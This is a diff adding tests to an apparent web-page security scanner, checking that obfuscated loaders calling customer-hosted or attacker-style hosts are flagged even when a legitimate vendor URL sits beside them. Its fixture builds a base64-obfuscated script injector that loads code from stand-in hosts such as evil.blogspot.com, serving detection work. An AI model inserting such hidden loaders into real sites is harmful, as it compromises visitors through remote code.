@@ -672,3 +672,29 @@ def test_a_catalogued_loader_vouches_for_no_other_hosts(what: str, html: str, mo
     hosts. Obfuscated code pasted within two lines of the page's jQuery or GPT tag that
     names it and loads a fresh host was medium, as a vendor's fallback."""
     assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [most]
+
+
+def _array_loader(*urls: str) -> str:
+    """A loader whose address is the last value of a base64 JSON array it reads."""
+    data = b64(json.dumps(list(urls)))
+    return (f"<script>var c=JSON.parse(atob('{data}'));var s=document.createElement('script');"
+            "s.src=c[c.length-1];document.head.appendChild(s);</script>")
+
+
+_FC_URL = "https://fundingchoicesmessages.google.com/b/pub-1111222233334444"
+
+
+@pytest.mark.parametrize("url", [
+    "https://evil-app.firebaseapp.com/x.js",  # a hosting platform's customer
+    "https://evil.blogspot.com/x.js",
+    "https://storage.googleapis.com/bkt-9931/x.js",  # rented storage
+    "https://www.googletagmanager.com/gtm.js?id=GTM-K7QX2P",  # the injector's container
+])
+def test_data_naming_a_vendor_vouches_for_no_customer_host(url: str,
+                                                           audit_html: AuditHtml) -> None:
+    """A vendor's service named in base64 data vouches for its company's content hosts,
+    not for a customer's host on its platform nor a tag manager's container (their code
+    is anyone's): beside Funding Choices' URL, each of these was no finding (high before
+    base64 JSON was read as data); alone, GTM's was none too."""
+    for html in (page(foot=_array_loader(_FC_URL, url)), page(foot=_config_loader(url))):
+        assert [s for s, _ in _obfuscated(audit_html(html, url=URL))] == [H]
